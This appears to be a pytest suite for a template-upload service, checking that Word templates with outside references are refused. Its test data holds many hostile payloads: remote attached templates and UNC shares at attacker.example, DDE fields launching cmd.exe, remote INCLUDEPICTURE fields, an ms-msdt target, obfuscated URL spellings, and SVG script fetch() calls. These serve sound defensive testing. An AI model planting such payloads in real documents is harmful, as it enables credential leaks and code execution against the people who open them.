"""Nothing in an uploaded template makes Word or LibreOffice contact a server.

One section per class of outside reference (docs/template-safety.md, "Outside
references"): each hostile template is refused by ``check_package`` naming the
part, the ordinary forms of the same feature pass, and the main cases are
refused through the API too.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from service.rendering import outside_references
from service.rendering.errors import TemplateError
from service.rendering.package_limits import check_package
from tests import hostile_templates as hostile
from tests.conftest import PROJECT_ROOT
from tests.docx_factory import Image, Runs, Table
from tests.funder_template import (
    funder_agreement_template,
    funder_understanding_template,
)
from tests.store_fixtures import create_api_key, upload

BUILTIN = sorted((PROJECT_ROOT / "agreement_templates").glob("*.docx"))
DOCUMENT = "word/document.xml"


def problems(source: bytes) -> list[tuple[str | None, str]]:
    """(part, message) of every problem check_package finds in ``source``."""
    with pytest.raises(TemplateError) as caught:
        check_package(source)
    assert caught.value.status == 422
    return [(problem.part, problem.message) for problem in caught.value.problems]


def refused_in(source: bytes, part: str, *words: str) -> None:
    """``source`` is refused with a problem in ``part`` whose message has ``words``."""
    found = problems(source)
    assert any(
        where == part and all(word in message for word in words)
        for where, message in found
    ), found


# --- no false positives: real templates pass -----------------------------------


@pytest.mark.parametrize("path", BUILTIN, ids=[path.name for path in BUILTIN])
def test_builtin_templates_pass(path: Path) -> None:
    check_package(path.read_bytes())


@pytest.mark.parametrize(
    "build",
    [
        funder_agreement_template,
        funder_understanding_template,
        lambda: hostile.docx(
            "Dear {{ title }}",
            Runs("{{ ti", "tle }}"),
            Table([["{%tr for p in parties %}"], ["{{ p.name }}"], ["{%tr endfor %}"]]),
            Image("logo"),
            header=["{{ title }}"],
            footer=["Page"],
            footnotes=["A note on {{ title }}"],
            properties={"title": "{{ title }}"},
        ),
        hostile.tag_split_by_hyperlink,
        hostile.tag_split_by_tracked_deletion,
        hostile.tag_across_paragraphs,
    ],
    ids=["funder-agreement", "funder-understanding", "factory", "hyperlink-split",
         "deletion-split", "across-paragraphs"],
)  # fmt: skip
def test_templates_of_the_test_suite_pass(build: object) -> None:
    check_package(build())  # type: ignore[operator]


WORD_FIELDS = [
    " PAGE ",
    " NUMPAGES ",
    ' TOC \\o "1-3" \\h \\z \\u ',
    ' HYPERLINK \\l "_Toc123456" ',
    ' HYPERLINK "https://partnership.example/guide" ',
    " REF _Ref98765 \\h ",
    " PAGEREF _Toc123456 \\h ",
    " SEQ Table \\* ARABIC ",
    " = 2 * 3 ",
    " MERGEFIELD title ",
    " DOCPROPERTY Title ",
    ' DATE \\@ "d. MMMM yyyy" ',
    "",
]


@pytest.mark.parametrize("instruction", WORD_FIELDS)
def test_fields_word_writes_pass(instruction: str) -> None:
    check_package(hostile.with_body([hostile.field(instruction)]))


def test_simple_fields_and_nested_fields_word_writes_pass() -> None:
    toc = (
        "<w:p>" + hostile.field_begin(' TOC \\o "1-3" ') + hostile.field_begin(
            " PAGEREF _Toc1 \\h ") + hostile.FIELD_END + hostile.FIELD_END + "</w:p>"
    )  # fmt: skip
    check_package(hostile.with_body([hostile.simple_field(" PAGE "), toc]))


def test_external_hyperlink_passes() -> None:
    check_package(hostile.external_hyperlink())


def test_picture_in_vml_with_an_embedded_image_and_a_click_link_passes() -> None:
    check_package(
        hostile.vml_picture(
            'r:id="rId900" o:title="Logo: blue"',
            shape='href="https://partnership.example/" alt="https://x.example"',
        )
    )


def test_svg_with_its_own_references_and_embedded_pictures_passes() -> None:
    picture = hostile.svg(
        '<defs><linearGradient id="g"/></defs><rect fill="url(#g)" width="5" '
        'height="5" style="stroke:url(\'#g\')"/><use href="#g"/>'
        '<image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>'
        "<style>.a { fill: red }</style>"
    )
    check_package(hostile.svg_picture(picture))


def test_document_variables_and_data_bound_content_controls_pass() -> None:
    source = hostile.in_settings(
        '<w:docVars><w:docVar w:name="grant" w:val="https://x.example"/></w:docVars>'
    )
    check_package(source)
    bound = (
        '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/root[1]/title[1]" '
        'w:storeItemID="{1B2C3D4E-0000-0000-0000-000000000000}"/></w:sdtPr>'
        "<w:sdtContent><w:p><w:r><w:t>Title</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    )
    check_package(hostile.with_body_xml(bound))


# --- relationships: attached templates ------------------------------------------

SETTINGS_RELS = hostile.SETTINGS_RELS


@pytest.mark.parametrize(
    "target",
    [
        "file:///\\\\attacker.example\\share\\t.dotm",
        "\\\\attacker.example\\share\\t.dotm",
        "//attacker.example/share/t.dotm",
        "file://attacker.example/share/t.dotm",
        "FILE:////attacker.example/share/t.dotm",
        "file:///\\/attacker.example/share/t.dotm",
        "%5C%5Cattacker.example%5Cshare%5Ct.dotm",
        "file:///%5c%5cattacker.example/t.dotm",
        "%255C%255Cattacker.example%255Ct.dotm",
        "\\\\?\\UNC\\attacker.example\\share\\t.dotm",
        "https://attacker.example/t.dotm",
        "HTTP://attacker.example/t.dotm",
        "  \\\\attacker.example\\share\\t.dotm",
        "webdav:attacker.example/t.dotm",
    ],
)
def test_attached_template_on_a_share_or_server_is_refused(target: str) -> None:
    refused_in(hostile.attached_template(target), SETTINGS_RELS, "attaches")


@pytest.mark.parametrize(
    "target",
    [
        "file:///C:\\Users\\funder\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
        "file:///c:/Users/funder/Templates/Grant.dotx",
        "C:\\Templates\\Grant.dotx",
        "Normal.dotm",
    ],
)
def test_attached_template_on_the_authors_own_disk_passes(target: str) -> None:
    check_package(hostile.attached_template(target))


def test_attached_template_is_refused_in_any_relationships_part() -> None:
    source = hostile.relationship(
        "attachedTemplate",
        "\\\\attacker.example\\t.dotm",
        mode="External",
        rels="customXml/_rels/item1.xml.rels",
    )
    refused_in(source, "customXml/_rels/item1.xml.rels", "attaches")


@pytest.mark.parametrize(
    ("value", "remote"),
    [
        ("ht\ttp://attacker.example/", True),
        ("\n\\\\attacker.example\\s", True),
        ("/\\attacker.example/s", True),
        ("%252F%252Fattacker.example", True),
        ("C:\\Users\\x.png", False),
        ("#fragment", False),
        ("media/image1.png", False),
    ],
)
def test_remote_addresses_are_told_apart_in_every_spelling(
    value: str, remote: bool
) -> None:
    assert outside_references.is_remote(value) is remote


# --- relationships: any type, any mode -------------------------------------------


@pytest.mark.parametrize(
    "kind",
    ["image", "font", "frame", "subDocument", "aFChunk", "webSettings",
     "glossaryDocument", "package", "video", "audio", "settings", "customXml"],
)  # fmt: skip
def test_external_relationship_of_any_type_is_refused(kind: str) -> None:
    source = hostile.relationship(kind, "http://attacker.example/x", mode="External")
    refused_in(source, hostile.DOCUMENT_RELS)


@pytest.mark.parametrize(
    "target",
    [
        "http://attacker.example/x.png",
        "HTTPS://attacker.example/x.png",
        "\\\\attacker.example\\share\\x.png",
        "//attacker.example/share/x.png",
        "file:///C:/Windows/x.png",
        "C:\\Windows\\x.png",
        "%68ttp://attacker.example/x.png",
        "mhtml:http://attacker.example/x.mht!x.png",
        "ms-msdt:/id PCWDiagnostic",
    ],
)
@pytest.mark.parametrize("mode", [None, "Internal"])
def test_internal_relationship_pointing_outside_is_refused(
    target: str, mode: str | None
) -> None:
    source = hostile.relationship("image", target, mode=mode)
    refused_in(source, hostile.DOCUMENT_RELS, "points outside")


@pytest.mark.parametrize("mode", ["external", "EXTERNAL", "Remote"])
def test_unusual_target_mode_is_refused(mode: str) -> None:
    source = hostile.relationship("image", "http://attacker.example/x", mode=mode)
    refused_in(source, hostile.DOCUMENT_RELS)


def test_hyperlink_relationship_used_as_a_picture_is_refused() -> None:
    source = hostile.with_relationship(
        hostile.vml_picture('r:id="rId901"'),
        hostile.DOCUMENT_RELS,
        f"{hostile.R_NS}/hyperlink",
        "http://attacker.example/p.png",
        external=True,
    )
    source = hostile.replace_in(
        source,
        hostile.DOCUMENT_RELS,
        f'Id="rId900" Type="{hostile.R_NS}/hyperlink"',
        f'Id="rId901" Type="{hostile.R_NS}/hyperlink"',
    )
    refused_in(source, DOCUMENT, "imagedata", "hyperlink")


def test_hyperlink_relationship_used_as_a_drawing_picture_is_refused() -> None:
    blip = f'<w:p><w:r><a:blip xmlns:a="{hostile.A_NS}" r:link="rId900"/></w:r></w:p>'
    source = hostile.with_body_xml(blip, hostile.external_hyperlink())
    refused_in(source, DOCUMENT, "blip")


@pytest.mark.parametrize("kind", ["webextension", "webextensiontaskpanes"])
def test_office_add_in_is_refused(kind: str) -> None:
    source = hostile.with_relationship(
        hostile.docx("Hello"),
        "_rels/.rels",
        f"http://schemas.microsoft.com/office/2011/relationships/{kind}",
        "word/webextensions/taskpanes.xml",
    )
    refused_in(source, "_rels/.rels", "add-in")


# --- altChunk: imported HTML, RTF, MHT ---------------------------------------------


@pytest.mark.parametrize(
    ("content_type", "name"),
    [
        ("text/html", "word/afchunk.xml"),
        ("application/xhtml+xml", "word/afchunk.xml"),
        ("message/rfc822", "word/afchunk.xml"),
        ("multipart/related", "word/afchunk.xml"),
        ("application/rtf", "word/afchunk.xml"),
        ("text/rtf; charset=x", "word/afchunk.xml"),
        ("text/html", "word/afchunk.mht"),
    ],
)
def test_imported_document_is_refused(content_type: str, name: str) -> None:
    found = problems(hostile.alt_chunk(content_type, name))
    parts = {part for part, message in found if "altChunk" in message}
    assert parts == {name, hostile.DOCUMENT_RELS, DOCUMENT}, found


def test_alt_chunk_element_alone_is_refused() -> None:
    refused_in(hostile.with_body_xml('<w:altChunk r:id="rId1"/>'), DOCUMENT, "altChunk")


# --- fields ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "runs",
    [
        (' INCLUDEPICTURE "http://attacker.example/p.png" \\d ',),
        (" INCLUDE", 'PICTURE "\\\\attacker.example\\s\\p.png" \\d '),
        (" I", "N", "CLUDEPIC", "TURE", ' "http://attacker.example/p.png"'),
        (' includepicture "http://attacker.example/p.png" ',),
        (' INCLUDETEXT "\\\\attacker.example\\share\\t.docx" ',),
        (' INCLUDE "\\\\attacker.example\\share\\t.docx" ',),
        (' LINK Excel.Sheet.12 "\\\\attacker.example\\s\\b.xlsx" "" \\a ',),
        (' DDE cmd "/c calc" ',),
        (' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ',),
        (' IMPORT "http://attacker.example/p.wmf" ',),
        (' RD "\\\\attacker.example\\share\\t.docx" ',),
        (' DATABASE \\d "\\\\attacker.example\\s\\db.mdb" ',),
        (' PRINT "%!PS" ',),
        (" MyBookmark ",),
        ('"INCLUDEPICTURE" "http://attacker.example/p.png"',),
    ],
    # Word characters only: pytest cannot select some of these field codes
    # by id on its command line, as mutmut does.
    ids=lambda runs: "-".join(re.findall(r"\w+", "|".join(runs)))[:40],
)
def test_field_that_fetches_is_refused(runs: tuple[str, ...]) -> None:
    refused_in(hostile.with_body([hostile.field(*runs)]), DOCUMENT, "field")


def test_field_split_across_runs_names_the_joined_field() -> None:
    found = problems(hostile.with_body([hostile.field(" INCLUDE", "PICTURE x ")]))
    assert any("INCLUDEPICTURE" in message for _, message in found), found


def test_simple_field_that_fetches_is_refused() -> None:
    source = hostile.with_body(
        [hostile.simple_field(' INCLUDEPICTURE "http://attacker.example/p.png" ')]
    )
    refused_in(source, DOCUMENT, "INCLUDEPICTURE")


def test_field_put_back_by_rejecting_a_deletion_is_refused() -> None:
    # Word runs "INCLUDEPICTURE …" once a reviewer rejects the deletion of "X".
    source = hostile.with_body(
        [hostile.field(" INCLUDE", "X", 'PICTURE "http://a.example/p"', deleted=[1])]
    )
    refused_in(source, DOCUMENT, "INCLUDEPICTURE")
    deleted = hostile.with_body(
        [hostile.field(' INCLUDEPICTURE "http://a.example/p" ', deleted=[0])]
    )
    refused_in(deleted, DOCUMENT, "INCLUDEPICTURE")


def test_field_nested_inside_an_allowed_field_is_refused() -> None:
    nested = (
        "<w:p>" + hostile.field_begin(' IF 1 = 1 "') + hostile.field_begin(
            ' INCLUDEPICTURE "http://attacker.example/p.png" ')
        + hostile.FIELD_END + hostile._instruction_run('" ""') + hostile.FIELD_END
        + "</w:p>"
    )  # fmt: skip
    refused_in(hostile.with_body([nested]), DOCUMENT, "INCLUDEPICTURE")


def test_field_whose_name_another_field_makes_is_refused() -> None:
    computed = (
        "<w:p>" + hostile.field_begin(" INCLUDE") + hostile.field_begin(
            ' QUOTE "PICTURE" ') + hostile.FIELD_END
        + hostile._instruction_run(' "http://attacker.example/p.png"')
        + hostile.FIELD_END + "</w:p>"
    )  # fmt: skip
    refused_in(hostile.with_body([computed]), DOCUMENT, "made by another field")


def test_field_spanning_paragraphs_is_read_whole() -> None:
    begin = "<w:p>" + hostile.field_begin(" INCLUDE") + "</w:p>"
    end = (
        "<w:p>"
        + hostile._instruction_run('PICTURE "http://attacker.example/p.png"')
        + hostile.FIELD_END
        + "</w:p>"
    )
    refused_in(hostile.with_body([begin, end]), DOCUMENT, "INCLUDEPICTURE")


@pytest.mark.parametrize(
    "instruction",
    [
        (' HYPERLINK "{{ extra.url }}" ',),
        (' HYPERLINK "{', '{ extra.url }}" '),
        (" {%p if x %}PAGE{%p endif %} ",),
    ],
)
def test_field_holding_a_template_tag_is_refused(instruction: tuple[str, ...]) -> None:
    refused_in(hostile.with_body([hostile.field(*instruction)]), DOCUMENT, "tag")


def test_simple_field_holding_a_template_tag_is_refused() -> None:
    source = hostile.with_body([hostile.simple_field(" {{ extra.field }} ")])
    refused_in(source, DOCUMENT, "template tag")


def test_fields_are_read_in_every_part() -> None:
    header = (
        '<?xml version="1.0"?><w:hdr xmlns:w="' + hostile.W_NS + '">'
        + hostile.field(' INCLUDETEXT "\\\\attacker.example\\t.docx" ') + "</w:hdr>"
    )  # fmt: skip
    source = hostile.rezip(
        hostile.docx("Hello"), add=[("word/header9.xml", header.encode())]
    )
    refused_in(source, "word/header9.xml", "INCLUDETEXT")


# --- SVG pictures ------------------------------------------------------------------

SVG_PART = "word/media/image5.svg"


@pytest.mark.parametrize(
    "body",
    [
        '<image href="http://attacker.example/p.png" width="1" height="1"/>',
        '<image xlink:href="https://attacker.example/p.png"/>',
        '<image xlink:href="\\\\attacker.example\\share\\p.png"/>',
        '<image xlink:href="file:///C:/secret.png"/>',
        '<image xlink:href="p.png"/>',
        '<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/>',
        '<use href="http://attacker.example/s.svg#a"/>',
        '<a href="https://attacker.example/"><rect width="1" height="1"/></a>',
        '<rect style="fill:url(http://attacker.example/p.png)"/>',
        "<rect fill=\"url('//attacker.example/p.png')\"/>",
        '<rect style="fill:u\\72l(http://attacker.example/p.png)"/>',
        '<rect style="fill:url(/**/http://attacker.example/p.png)"/>',
        '<style>@import "http://attacker.example/s.css";</style>',
        "<style>rect { fill: url(http://attacker.example/p.png) }</style>",
        "<style>rect { background: image-set('http://a.example/p.png' 1x) }</style>",
        "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml'/></foreignObject>",
        "<script>fetch('http://attacker.example/')</script>",
        '<rect onload="fetch(1)"/>',
        '<feImage href="http://attacker.example/p.png"/>',
    ],
)
def test_svg_referring_outside_is_refused(body: str) -> None:
    refused_in(hostile.svg_picture(hostile.svg(body)), SVG_PART, "SVG")


def test_svg_disguised_as_another_picture_is_checked() -> None:
    picture = hostile.svg('<image href="http://attacker.example/p.png"/>')
    source = hostile.rezip(
        hostile.docx("Hello"), add=[("word/media/image8.png", picture.encode())]
    )
    refused_in(source, "word/media/image8.png", "SVG")


def test_svg_content_type_on_a_member_that_is_not_svg_is_refused() -> None:
    source = hostile.rezip(
        hostile.docx("Hello"), add=[("word/media/image8.png", b"\x1f\x8b gzip")]
    )
    source = hostile.with_content_type(source, "word/media/image8.png", "image/svg+xml")
    refused_in(source, "word/media/image8.png", "SVG")


def test_style_sheet_instruction_in_any_part_is_refused() -> None:
    picture = '<?xml-stylesheet href="http://attacker.example/s.css"?>' + hostile.svg(
        ""
    )
    refused_in(hostile.svg_picture(picture), SVG_PART, "style sheet")


# --- VML pictures, fills and objects -------------------------------------------------


@pytest.mark.parametrize(
    "attributes",
    [
        'r:id="rId900" o:href="http://attacker.example/logo.gif"',
        'src="\\\\attacker.example\\share\\logo.png"',
        'src="file://attacker.example/share/logo.png"',
        'o:althref="//attacker.example/logo.png"',
        'r:href="http://attacker.example/logo.png"',
        'src="%5C%5Cattacker.example%5Clogo.png"',
    ],
)
def test_vml_picture_referring_outside_is_refused(attributes: str) -> None:
    refused_in(hostile.vml_picture(attributes), DOCUMENT, "imagedata")


@pytest.mark.parametrize(
    "inner",
    [
        '<v:fill type="frame" src="http://attacker.example/bg.png"/>',
        '<v:fill o:href="\\\\attacker.example\\bg.png"/>',
        '<v:stroke src="//attacker.example/line.png"/>',
        '<v:imagedata src="http://attacker.example/p.png"/>',
    ],
)
def test_vml_fill_or_stroke_referring_outside_is_refused(inner: str) -> None:
    refused_in(hostile.vml_body(inner), DOCUMENT, "outside address")


def test_linked_ole_object_is_refused() -> None:
    linked = '<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rId1"/>'
    refused_in(hostile.vml_body(linked), DOCUMENT, "linked object")


# --- settings, frames, master documents, elements -----------------------------------


def test_mail_merge_data_source_is_refused() -> None:
    merge = (
        '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        '<w:connectString w:val="Provider=MSDASQL;DSN=remote"/>'
        '<w:query w:val="SELECT * FROM t"/></w:mailMerge>'
    )
    refused_in(hostile.in_settings(merge), "word/settings.xml", "mail-merge")


def test_frames_page_is_refused() -> None:
    frames = (
        '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'
    )
    source = hostile.in_settings(
        frames, part="word/webSettings.xml", before="<w:allowPNG/>"
    )
    refused_in(source, "word/webSettings.xml", "frames page")


def test_master_document_is_refused() -> None:
    refused_in(hostile.with_body_xml('<w:subDoc r:id="rId1"/>'), DOCUMENT, "master")


def test_online_video_is_refused() -> None:
    video = (
        '<w:p><w:r><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/'
        'word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=x&gt;"/>'
        "</w:r></w:p>"
    )
    refused_in(hostile.with_body_xml(video), DOCUMENT, "video")


def test_xinclude_is_refused() -> None:
    include = (
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        'href="http://attacker.example/x.xml"/>'
    )
    refused_in(hostile.with_body_xml(include), DOCUMENT, "XInclude")


def test_xml_part_that_is_not_well_formed_is_refused() -> None:
    source = hostile.rezip(
        hostile.docx("Hello"), add=[("customXml/item9.xml", b"<a><b></a>")]
    )
    refused_in(source, "customXml/item9.xml", "well-formed")


# --- through the API: 422 naming the part ---------------------------------------------


@pytest.fixture()
def key(app: Flask) -> str:
    """A funder's API key."""
    return create_api_key(app)


@pytest.mark.parametrize(
    ("build", "part"),
    [
        (
            lambda: hostile.attached_template("file:///\\\\attacker.example\\s\\t.dotm"),
            SETTINGS_RELS,
        ),
        (hostile.alt_chunk, "word/afchunk.mht"),
        (
            lambda: hostile.with_body(
                [hostile.field(" INCLUDE", 'PICTURE "http://attacker.example/p" ')]
            ),
            DOCUMENT,
        ),
        (
            lambda: hostile.svg_picture(
                hostile.svg('<image href="http://attacker.example/p.png"/>')
            ),
            SVG_PART,
        ),
        (
            lambda: hostile.relationship("image", "http://attacker.example/p.png"),
            hostile.DOCUMENT_RELS,
        ),
    ],
    ids=["attached-template-unc", "alt-chunk", "split-includepicture", "svg-href",
         "internal-http"],
)  # fmt: skip
def test_upload_is_422_naming_the_part(
    client: FlaskClient, key: str, build: object, part: str
) -> None:
    response = upload(client, key, build())  # type: ignore[operator]
    assert response.status_code == 422, response.get_data(as_text=True)
    body = response.json
    assert body is not None
    assert body["code"] == 422 and body["status"]
    assert "cannot be used" in body["message"]
    assert part in {error.get("part") for error in body["errors"]}, body["errors"]
    assert (
        client.get("/v1/templates", headers={"Authorization": f"Bearer {key}"}).json
        == []
    )
